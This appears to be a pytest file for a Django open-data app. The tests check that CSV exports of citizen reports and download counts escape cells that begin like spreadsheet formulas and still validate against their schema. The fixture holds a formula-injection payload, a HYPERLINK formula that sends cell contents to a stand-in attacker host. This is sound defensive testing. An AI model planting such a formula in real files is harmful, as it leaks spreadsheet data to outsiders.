"""Open data CSV files escape text that a spreadsheet would run as a formula, and stay
valid against their national or Territoria schema; numbers are never touched."""

import json

from django.urls import reverse

import pytest
from frictionless import Resource, Schema, system

from territoria import tabular
from territoria.opendata.enums import Source
from territoria.opendata.models import Dataset, DownloadCount
from tests.opendata.factories import generated
from tests.reports.factories import make_category, make_report

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'


@pytest.mark.django_db
def test_reports_csv_escapes_a_formula_and_stays_valid(world):
    """A report whose text starts like a formula is escaped in the CSV, kept as written
    in JSON, and the CSV still passes frictionless against the signalements schema."""
    category = make_category(world.saint_amand, "voirie", "Voirie")
    make_report(category, description=FORMULA, address="-1 rue du Pont")
    make_report(category, description="Trottoir abîmé", address="Place de la Gare")
    dataset = generated(world.agent_saint_amand, world.saint_amand, Source.REPORTS)
    resources = {r.format: r for r in dataset.resources.all()}
    sheet = tabular.read(resources["csv"].path.read_bytes())
    rows = [dict(zip(sheet.header, cells, strict=True)) for _line, cells in sheet.rows]
    by_text = {row["description"]: row for row in rows}
    assert set(by_text) == {"'" + FORMULA, "Trottoir abîmé"}
    assert by_text["'" + FORMULA]["address"] == "'-1 rue du Pont"
    assert by_text["Trottoir abîmé"]["lat"] == "46.7227"  # numbers are written as numbers
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in resources["csv"].path.read_text()
    objects = json.loads(resources["json"].path.read_text(encoding="utf-8"))
    assert FORMULA in {o["description"] for o in objects}
    descriptor = {k: v for k, v in dataset.schema_info.descriptor().items()
                  if k != "custom_checks"}  # fmt: skip
    with system.use_context(trusted=True):
        report = Resource(
            str(resources["csv"].path), format="csv", schema=Schema.from_descriptor(descriptor)
        ).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type"])


@pytest.mark.django_db
def test_download_counts_csv_escapes_a_dataset_title(client, world):
    """The agents' monthly downloads CSV escapes a title starting like a formula."""
    dataset = generated(world.agent_saint_amand, world.saint_amand, Source.REPORTS)
    Dataset.objects.filter(pk=dataset.pk).update(title="@SUM(1+1)")
    DownloadCount.objects.create(
        collectivite=world.saint_amand, dataset=dataset,
        resource=dataset.resources.get(format="csv"), month="2025-05-01", count=12,
    )  # fmt: skip
    client.force_login(world.agent_saint_amand)
    response = client.get(
        reverse("opendata:downloads_csv", kwargs={"slug": "saint-amand-montrond"})
    )
    sheet = tabular.read(response.content)
    assert sheet.rows == [(2, ["2025-05", str(dataset.uid), "'@SUM(1+1)", "csv", "12"])]
